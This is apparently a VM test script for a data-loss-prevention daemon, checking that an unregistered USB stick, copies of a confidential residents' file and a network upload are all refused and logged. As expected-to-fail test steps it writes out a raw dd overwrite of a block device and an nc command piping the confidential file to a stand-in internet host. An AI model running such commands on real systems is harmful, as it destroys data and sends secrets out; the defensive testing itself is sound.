#!/bin/sh
# tests/vm/demo.sh - what `make demo` shows, checked: dlpd enforcing policy/default.policy on a
# terminal with a registered stick (DLPDEMO0001, in the policy's ledger) and a personal one;
# the employee tanaka (uid 1000) tries what the brief lists, and the decisions are printed as a
# table by `dlpctl log tail`. Mounting is done by root, as udisks would on a desktop.
# dlpguard.ko is loaded first, as at boot: the personal stick is read-only at the block layer
# (root's dd to it fails), the registered one writable. Without the module (no kernel headers
# to build it) the demo says so and goes on with the BPF programs alone.
# vm-timeout: 300
# vm-stick: reg serial=DLPDEMO0001 removable=on fs=vfat size=16
# vm-stick: private serial=PRIVATE-0042 removable=on fs=vfat size=16
# vm-include: $BUILD/dlpd $BUILD/dlpctl policy/default.policy $BUILD/kmod/$KERNEL/dlpguard.ko
. tests/vm/lib/vmtest.sh

[ -x build/dlpd ] && [ -x build/dlpctl ] || vm_skip "build/dlpd or build/dlpctl not built (make)"
vm_check "BPF LSM is active" sh -c 'tr , "\n" </sys/kernel/security/lsm | grep -qx bpf'

step() { printf '\n==> %s\n' "$*"; }
# Kernel messages (mounts, USB) would interleave with the story: keep them off the console.
dmesg -n 1 2>/dev/null

reg=$(dlpvm disk DLPDEMO0001) || vm_fail "stick DLPDEMO0001 not found"
private=$(dlpvm disk PRIVATE-0042) || vm_fail "stick PRIVATE-0042 not found"
log=/var/log/dlpguard/decisions.jsonl

step "A terminal: the shared folders of the policy, and the employee tanaka (uid 1000)"
echo "tanaka:x:1000:1000:田中 太郎:/tmp:/bin/sh" >>/etc/passwd
echo "tanaka:x:1000:" >>/etc/group
mkdir -p /srv/share/機密性1 /srv/share/機密性2 /srv/share/機密性3 /srv/share/例規集 \
	/mnt/usb /mnt/private /var/log/dlpguard
echo "住民基本台帳の写し" >/srv/share/機密性2/住民一覧.txt
echo "庁内行事のお知らせ" >/srv/share/機密性1/お知らせ.txt
chmod -R a+rX /srv/share
# The forbidden zone "internet" (198.51.100.0/24) reachable inside the VM only.
ip addr add 198.51.100.1/24 dev lo && ip link set lo up

ko=build/kmod/$DLPVM_KERNEL/dlpguard.ko
if [ -f "$ko" ]; then
	step "dlpguard.ko loads, as at boot: from now on every stick is read-only when it attaches"
	vm_check "loaded" insmod "$ko"
else
	step "dlpguard.ko was not built (make kmod-vm: no kernel headers?): the BPF programs guard alone"
fi

step "dlpd starts with policy/default.policy"
build/dlpd --policy policy/default.policy --log "$log" >/tmp/dlpd.out 2>&1 &
dlpd_pid=$!
i=0
until grep -q enforcing /tmp/dlpd.out; do
	i=$((i + 1))
	[ $i -gt 60 ] && { cat /tmp/dlpd.out; vm_fail "dlpd did not start"; }
	sleep 1
done
cat /tmp/dlpd.out

if [ -f "$ko" ]; then
	step "The block layer: the personal stick read-only, the registered one (access rw) writable"
	i=0
	until [ "$(cat /sys/block/$reg/ro)" = 0 ] || [ $i -gt 20 ]; do
		i=$((i + 1))
		sleep 0.1
	done
	echo "/sys/block/$private/ro: $(cat /sys/block/$private/ro)," \
		"/sys/block/$reg/ro: $(cat /sys/block/$reg/ro)"
	vm_check "as the ledger says" sh -c \
		"[ \"\$(cat /sys/block/$private/ro)\" = 1 ] && [ \"\$(cat /sys/block/$reg/ro)\" = 0 ]"
	step "root writes over the personal stick with dd"
	vm_check "refused" sh -c "! dd if=/dev/zero of=/dev/$private bs=512 count=1 seek=100 conv=fsync"
fi

step "Mount the personal (unregistered) stick"
vm_check "refused" sh -c "! mount -t vfat -o uid=1000 /dev/${private}1 /mnt/private"

step "Mount the registered stick DEMO-2026-001"
vm_check "allowed" mount -t vfat -o uid=1000 "/dev/${reg}1" /mnt/usb

step "tanaka copies a 機密性2 file to the registered stick"
vm_check "refused" sh -c "! su -s /bin/sh tanaka -c 'cp /srv/share/機密性2/住民一覧.txt /mnt/usb/'"

step "tanaka copies a 機密性1 file to it"
vm_check "allowed" su -s /bin/sh tanaka -c "cp /srv/share/機密性1/お知らせ.txt /mnt/usb/"

step "tanaka sends the 機密性2 file to the Internet (198.51.100.7:443)"
vm_check "refused" sh -c "! su -s /bin/sh tanaka -c 'nc -w 2 198.51.100.7 443 </srv/share/機密性2/住民一覧.txt'"

umount /mnt/usb
sleep 2
step "The decisions, as the administrator sees them (dlpctl log tail)"
build/dlpctl log tail -n 40 --file "$log"
vm_check "the log names the refused mount, copy and connect" sh -c \
	"grep -q '\"action\":\"mount\".*\"verdict\":\"deny\"' $log &&
	 grep -q '\"action\":\"write\".*\"verdict\":\"deny\"' $log &&
	 grep -q '\"action\":\"connect\".*\"verdict\":\"deny\"' $log"
kill -TERM "$dlpd_pid"
wait "$dlpd_pid"
build/dlpd --unload >/dev/null
[ -f "$ko" ] && rmmod dlpguard
